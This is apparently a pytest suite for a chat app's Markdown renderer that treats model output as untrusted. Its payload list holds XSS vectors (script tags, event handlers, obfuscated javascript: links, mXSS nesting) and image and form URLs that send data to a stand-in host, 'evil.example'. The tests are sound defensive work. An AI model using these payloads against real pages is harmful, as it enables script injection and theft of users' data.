"""Model output is untrusted: Markdown renders, nothing executable or remote survives."""

from html.parser import HTMLParser

import pytest

from conversations.chat.rendering import markdown_to_html

PAYLOADS = [
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](java%0ascript:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](https://evil.example/?q=SECRET)",
    '![x"onerror="alert(1)](x)',
    "<iframe src=https://evil.example></iframe>",
    '<a href="javascript:alert(1)">x</a>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<form action="https://evil.example"><button>go</button></form>',
    '<base href="https://evil.example/">',
    '[a](https://ok.example "title" onmouseover="alert(1)")',
    "<svg onload=alert(1)>",
    "`<script>alert(1)</script>`",
]


class Collector(HTMLParser):
    def __init__(self):
        super().__init__()
        self.tags = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))


def _tags(html):
    parser = Collector()
    parser.feed(html)
    return parser.tags


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_executable_or_remote_survives(payload):
    tags = _tags(markdown_to_html(payload))
    for tag, attrs in tags:
        assert tag not in {"script", "img", "iframe", "form", "base", "svg", "math", "style", "button"}
        assert not any(name.startswith("on") for name in attrs)
        href = (attrs.get("href") or "").strip().lower()
        assert not href.startswith(("javascript:", "data:", "vbscript:"))


def test_markdown_features_render():
    html = markdown_to_html(
        "# Title\n\n**bold** ~~gone~~\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n- [x] done\n- [ ] todo\n\n"
        "```python\nprint('hi')\n```\n\n[link](https://example.com)"
    )
    tags = [tag for tag, _ in _tags(html)]
    for expected in ("h1", "strong", "s", "table", "input", "pre", "code", "a"):
        assert expected in tags
    assert 'class="highlight' in html or "highlight" in html
    assert 'rel="noopener noreferrer nofollow"' in html


def test_code_is_escaped_not_executed():
    html = markdown_to_html("```html\n<script>alert(1)</script>\n```")
    assert "<script>" not in html and "&lt;" in html


def test_empty_text_renders_nothing():
    assert markdown_to_html("") == ""


def test_images_become_their_alt_text():
    html = markdown_to_html("See ![the chart](https://evil.example/?q=SECRET) here")
    assert "[image: the chart]" in html
    assert "evil.example" not in html
